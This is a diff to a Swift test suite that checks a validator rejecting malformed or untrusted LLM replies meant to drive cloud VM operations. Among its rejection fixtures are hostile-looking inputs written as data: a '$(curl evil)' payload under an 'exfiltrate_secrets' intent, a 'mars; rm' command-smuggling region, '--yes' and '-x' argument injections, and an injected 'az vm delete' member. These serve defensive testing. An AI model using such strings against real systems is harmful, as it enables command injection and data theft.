@@ -47,7 +47,10 @@ private final class FixedClient: LLMClient, @unchecked Sendable {
       #"{"intent":"stop_vm","parameters":{"names":["sam"]},"confidence":0.93,"explanation":"x"}"#)
     var p = IntentParameters()
     p.names = ["sam"]
-    #expect(result == [Intent(kind: .stopVM, parameters: p, confidence: 0.93, explanation: "stop VMs sam")])
+    #expect(
+      result == [
+        Intent(kind: .stopVM, parameters: p, confidence: 0.93, explanation: "stop VMs sam")
+      ])
   }
 
   @Test func fencedArrayIsParsedAndALaterVMGoesIntoTheNewGroup() {
@@ -78,6 +81,12 @@ private final class FixedClient: LLMClient, @unchecked Sendable {
     #expect(result.first?.parameters.powerState == "stopped")
   }
 
+  @Test func trailingProseAfterTheJSONIsTolerated() {
+    let result = intents(
+      "{\"intent\":\"list_resource_groups\",\"confidence\":1}\n\nThat lists groups.")
+    #expect(result.first?.kind == .listResourceGroups)
+  }
+
   @Test func everyParameterIsRead() {
     let result = intents(
       #"""
@@ -95,14 +104,32 @@ private final class FixedClient: LLMClient, @unchecked Sendable {
     #expect(p?.all == false)
   }
 
+  @Test func diskAndResizeParametersAreRead() {
+    let disk = intents(
+      #"{"intent":"attach_disk","parameters":{"vm":"sam","size_gb":64,"sku":"Premium_LRS"},"confidence":0.9}"#
+    )
+    #expect(disk.first?.kind == .attachDisk)
+    #expect(disk.first?.parameters.vm == "sam")
+    #expect(disk.first?.parameters.sizeGB == 64)
+    #expect(disk.first?.parameters.sku == "Premium_LRS")
+    #expect(disk.first?.explanation == "add a data disk for VM sam")
+    let resize = intents(
+      #"{"intent":"resize_vm","parameters":{"names":["sam"],"size_change":"Bigger"},"confidence":0.9}"#
+    )
+    #expect(resize.first?.parameters.sizeChange == "bigger")
+  }
+
   @Test func confidenceIsClamped() {
-    #expect(intents(#"{"intent":"list_vms","parameters":{},"confidence":1.7}"#).first?.confidence == 1)
-    #expect(intents(#"{"intent":"list_vms","parameters":{},"confidence":-2}"#).first?.confidence == 0)
+    #expect(
+      intents(#"{"intent":"list_vms","parameters":{},"confidence":1.7}"#).first?.confidence == 1)
+    #expect(
+      intents(#"{"intent":"list_vms","parameters":{},"confidence":-2}"#).first?.confidence == 0)
   }
 
   @Test func groupOperationTakesItsNameFromResourceGroup() {
     let result = intents(
-      #"{"intent":"delete_resource_group","parameters":{"resource_group":"old-rg"},"confidence":0.9}"#)
+      #"{"intent":"delete_resource_group","parameters":{"resource_group":"old-rg"},"confidence":0.9}"#
+    )
     #expect(result.first?.parameters.names == ["old-rg"])
     #expect(result.first?.parameters.resourceGroup == nil)
   }
@@ -131,32 +158,94 @@ private final class FixedClient: LLMClient, @unchecked Sendable {
     .init(reply: #"{"parameters":{},"confidence":1}"#, reason: "intent is missing or not a string"),
     .init(reply: #"{"intent":"list_vms"}"#, reason: "confidence is missing or not a number"),
     .init(reply: #"{"intent":"list_vms","confidence":"high"}"#, reason: "confidence is missing"),
-    .init(reply: #"{"intent":"list_vms","confidence":1,"command":"az vm delete"}"#, reason: "unknown member"),
-    .init(reply: #"{"intent":"list_vms","intent":"delete_vm","confidence":1}"#, reason: "given twice"),
-    .init(reply: #"{"intent":"list_vms","confidence":1,"explanation":5}"#, reason: "explanation is not a string"),
-    .init(reply: #"{"intent":"list_vms","confidence":1,"parameters":[]}"#, reason: "parameters is not an object"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"vm":"sam"}}"#, reason: "unknown parameter"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":"sam"}}"#, reason: "names is not an array"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":[3]}}"#, reason: "a name is not"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":["--yes"]}}"#, reason: "a name is not"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":["a b"]}}"#, reason: "a name is not"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":[""]}}"#, reason: "a name is not"),
     .init(
-      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":[""# + "\"" + String(repeating: "a", count: 91) + "\"]}}",
+      reply: #"{"intent":"list_vms","confidence":1,"command":"az vm delete"}"#,
+      reason: "unknown member"),
+    .init(
+      reply: #"{"intent":"list_vms","intent":"delete_vm","confidence":1}"#, reason: "given twice"),
+    .init(
+      reply: #"{"intent":"list_vms","confidence":1,"explanation":5}"#,
+      reason: "explanation is not a string"),
+    .init(
+      reply: #"{"intent":"list_vms","confidence":1,"parameters":[]}"#,
+      reason: "parameters is not an object"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"target":"sam"}}"#,
+      reason: "unknown parameter"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":"sam"}}"#,
+      reason: "names is not an array"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":[3]}}"#,
       reason: "a name is not"),
-    .init(reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":0}}"#, reason: "count is not"),
-    .init(reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":51}}"#, reason: "count is not"),
-    .init(reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":2.5}}"#, reason: "count is not"),
-    .init(reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":"3"}}"#, reason: "count is not"),
-    .init(reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"region":"mars; rm"}}"#, reason: "region is not"),
-    .init(reply: #"{"intent":"resize_vm","confidence":1,"parameters":{"size":"big one"}}"#, reason: "size is not"),
-    .init(reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"image":"-x"}}"#, reason: "image is not"),
-    .init(reply: #"{"intent":"list_vms","confidence":1,"parameters":{"power_state":"asleep"}}"#, reason: "power_state is not"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"all":"yes"}}"#, reason: "all is not"),
-    .init(reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"all":true,"all":false}}"#, reason: "given twice"),
-    .init(reply: #"{"intent":"delete_resource_group","confidence":1,"parameters":{"names":["a","b"]}}"#, reason: "more than one group"),
-    .init(reply: #"[{"intent":"list_vms","confidence":1},{"intent":"hack","confidence":1}]"#, reason: "intent 2: unknown operation"),
-    .init(reply: "[" + Array(repeating: #"{"intent":"list_vms","confidence":1}"#, count: 11).joined(separator: ",") + "]", reason: "more than 10 intents"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":["--yes"]}}"#,
+      reason: "a name is not"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":["a b"]}}"#,
+      reason: "a name is not"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":[""]}}"#,
+      reason: "a name is not"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"names":[""#
+        + String(repeating: "a", count: 91) + "\"]}}",
+      reason: "a name is not"),
+    .init(
+      reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":0}}"#,
+      reason: "count is not"),
+    .init(
+      reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":51}}"#,
+      reason: "count is not"),
+    .init(
+      reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":2.5}}"#,
+      reason: "count is not"),
+    .init(
+      reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"count":"3"}}"#,
+      reason: "count is not"),
+    .init(
+      reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"region":"mars; rm"}}"#,
+      reason: "region is not"),
+    .init(
+      reply: #"{"intent":"resize_vm","confidence":1,"parameters":{"size":"big one"}}"#,
+      reason: "size is not"),
+    .init(
+      reply: #"{"intent":"provision_vm","confidence":1,"parameters":{"image":"-x"}}"#,
+      reason: "image is not"),
+    .init(
+      reply: #"{"intent":"list_vms","confidence":1,"parameters":{"power_state":"asleep"}}"#,
+      reason: "power_state is not"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"all":"yes"}}"#,
+      reason: "all is not"),
+    .init(
+      reply: #"{"intent":"resize_vm","confidence":1,"parameters":{"size_change":"huge"}}"#,
+      reason: "size_change is not"),
+    .init(
+      reply: #"{"intent":"attach_disk","confidence":1,"parameters":{"size_gb":0}}"#,
+      reason: "size_gb is not"),
+    .init(
+      reply: #"{"intent":"attach_disk","confidence":1,"parameters":{"size_gb":40000}}"#,
+      reason: "size_gb is not"),
+    .init(
+      reply: #"{"intent":"attach_disk","confidence":1,"parameters":{"sku":"Premium LRS"}}"#,
+      reason: "sku is not"),
+    .init(
+      reply: #"{"intent":"attach_disk","confidence":1,"parameters":{"vm":"-x"}}"#,
+      reason: "vm is not"),
+    .init(
+      reply: #"{"intent":"stop_vm","confidence":1,"parameters":{"all":true,"all":false}}"#,
+      reason: "given twice"),
+    .init(
+      reply: #"{"intent":"delete_resource_group","confidence":1,"parameters":{"names":["a","b"]}}"#,
+      reason: "more than one group"),
+    .init(
+      reply: #"[{"intent":"list_vms","confidence":1},{"intent":"hack","confidence":1}]"#,
+      reason: "intent 2: unknown operation"),
+    .init(
+      reply: "["
+        + Array(repeating: #"{"intent":"list_vms","confidence":1}"#, count: 11).joined(
+          separator: ",") + "]", reason: "more than 10 intents"),
   ]
 
   @Test(arguments: rejected) func untrustedReplyIsRejected(_ c: Rejected) {
@@ -166,7 +255,8 @@ private final class FixedClient: LLMClient, @unchecked Sendable {
   }
 
   @Test func rejectionNeverEchoesTheReply() {
-    let reason = reason(#"{"intent":"exfiltrate_secrets","confidence":1,"parameters":{"payload":"$(curl evil)"}}"#)
+    let reason = reason(
+      #"{"intent":"exfiltrate_secrets","confidence":1,"parameters":{"payload":"$(curl evil)"}}"#)
     #expect(reason != nil)
     #expect(reason?.contains("exfiltrate") == false)
     #expect(reason?.contains("curl") == false)
@@ -175,7 +265,8 @@ private final class FixedClient: LLMClient, @unchecked Sendable {
   @Test func fiftyCountAndNinetyCharacterNameAreAccepted() {
     let name = String(repeating: "a", count: 90)
     let result = intents(
-      #"{"intent":"provision_vm","confidence":1,"parameters":{"count":50,"names":[""# + "\"" + name + "\"]}}")
+      #"{"intent":"provision_vm","confidence":1,"parameters":{"count":50,"names":[""# + name
+        + "\"]}}")
     #expect(result.first?.parameters.count == 50)
     #expect(result.first?.parameters.names == [name])
   }
